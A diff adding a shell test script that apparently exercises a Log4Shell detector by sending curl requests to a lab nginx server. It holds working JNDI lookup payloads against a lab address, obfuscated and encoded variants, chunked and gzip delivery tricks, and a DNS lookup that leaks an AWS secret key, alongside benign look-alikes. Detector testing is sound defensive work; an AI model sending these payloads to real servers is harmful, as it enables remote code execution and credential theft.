@@ -1,0 +1,80 @@
+# SPDX-License-Identifier: GPL-2.0-or-later
+# curl against nginx: where in a request a lookup can hide, and requests full of ${...} that are nobody's attack.
+
+http_up() {
+    mkdir -p "$WORK/nginx/html" "$WORK/nginx/logs"
+    echo hello >"$WORK/nginx/html/index.html"
+    sed "s|@WORK@|$WORK|g" "$here/srv/nginx.conf" >"$WORK/nginx/nginx.conf"
+    serve in 80 nginx -e "$WORK/nginx/logs/err.log" -c "$WORK/nginx/nginx.conf"
+}
+
+# Two writes with a pause between them become two chunks: the lookup is cut in the middle.
+chunked_split() {
+    { printf 'user=${jndi:ldap:'; sleep 0.2; printf '//10.99.0.1:1389/chunk}&go=1'; } |
+        curl_out -H 'Expect:' -X POST -T - http://10.99.0.2/login
+}
+
+gzip_body() {
+    printf '{"name":"${jndi:ldap://10.99.0.1:1389/gzip}"}' | gzip -n |
+        curl_out -H 'Content-Encoding: gzip' -H 'Content-Type: application/json' --data-binary @- http://10.99.0.2/api
+}
+
+# Small segments by the receiver's announced maximum segment size, as a slow or narrow path would make them.
+small_segments() {
+    ip netns exec jndirec-in sysctl -qw net.ipv4.route.min_adv_mss=88
+    ip -n jndirec-in route replace 10.99.0.0/24 dev e0 src 10.99.0.2 advmss 88
+    curl_out -A '${${lower:j}ndi:${lower:l}dap://10.99.0.1:1389/segments}' http://10.99.0.2/
+    ip -n jndirec-in route replace 10.99.0.0/24 dev e0 src 10.99.0.2
+}
+
+keepalive() {
+    timeout 10 $OUT curl -s -o /dev/null http://10.99.0.2/one --next \
+        -s -o /dev/null -H 'X-Api-Version: ${jndi:rmi://10.99.0.1:1099/second}' http://10.99.0.2/two
+}
+
+multipart() {
+    curl_out -F 'comment=${jndi:ldap://10.99.0.1:1389/part}' -F 'file=@-;filename=a.txt' http://10.99.0.2/upload \
+        <<<'plain text'
+}
+
+# What web applications, templates, shells and configuration servers really send.
+templates() {
+    curl_out --data-binary @"$here/srv/template.js" -H 'Content-Type: text/javascript' http://10.99.0.2/save
+    curl_out --data-binary @"$here/srv/deploy.sh.txt" -H 'Content-Type: text/x-sh' http://10.99.0.2/save
+    curl_out --data-binary @"$here/srv/application.properties" -H 'Content-Type: text/plain' http://10.99.0.2/env
+    curl_out --data-binary @"$here/srv/log4j2.xml" -H 'Content-Type: application/xml' http://10.99.0.2/config
+    curl_out --data-urlencode 'q=${user.name}' --data-urlencode 'path=${base}/${id:-0}' http://10.99.0.2/form
+    curl_out -G --data-urlencode 'tpl=Hello ${name}, you owe ${amount:,.2f}' http://10.99.0.2/render
+}
+
+# People write about it: the words without the syntax.
+talk() {
+    curl_out -H 'Content-Type: application/json' http://10.99.0.2/comments --data-binary \
+        '{"text":"log4shell: the attacker sends jndi:ldap://host/a inside ${ } and the server calls out. See jndi and ldap."}'
+    curl_out -G --data-urlencode 'q=what is jndi:ldap and ${jndi' http://10.99.0.2/search
+    curl_out -A 'log4shell-notes/1.0 (ldap rmi dns)' http://10.99.0.2/
+}
+
+http_names="http-header http-header-ipv6 http-query-obfuscated http-json-escaped http-form http-chunked http-gzip
+    http-small-segments http-keepalive http-multipart http-leak benign-http-templates benign-http-talk"
+# shellcheck disable=SC2086
+if wanted $http_names; then
+    http_up
+    scene http-header curl_out -A '${jndi:ldap://10.99.0.1:1389/header}' http://10.99.0.2/
+    scene http-header-ipv6 curl_out -A '${jndi:ldap://[fd99::1]:1389/header}' 'http://[fd99::2]/'
+    scene http-query-obfuscated curl_out -G http://10.99.0.2/search \
+        --data-urlencode 'q=${${lower:J}${::-n}d${env:NOPE:-i}:${lower:L}dap://10.99.0.1:1389/query}'
+    scene http-json-escaped curl_out -H 'Content-Type: application/json' http://10.99.0.2/api --data-binary \
+        '{"user":"\u0024\u007bjndi:ldap:\/\/10.99.0.1:1389\/json\u007d","ok":true}'
+    scene http-form curl_out --data-urlencode 'user=${jndi:ldap://10.99.0.1:1389/form}' -d 'pass=x' http://10.99.0.2/login
+    scene http-chunked chunked_split
+    scene http-gzip gzip_body
+    scene http-small-segments small_segments
+    scene http-keepalive keepalive
+    scene http-multipart multipart
+    scene http-leak curl_out -H 'X-Forwarded-For: ${jndi:dns://10.99.0.1/${env:AWS_SECRET_ACCESS_KEY}.leak.example}' \
+        http://10.99.0.2/
+    scene benign-http-templates templates
+    scene benign-http-talk talk
+    stop_servers
+fi
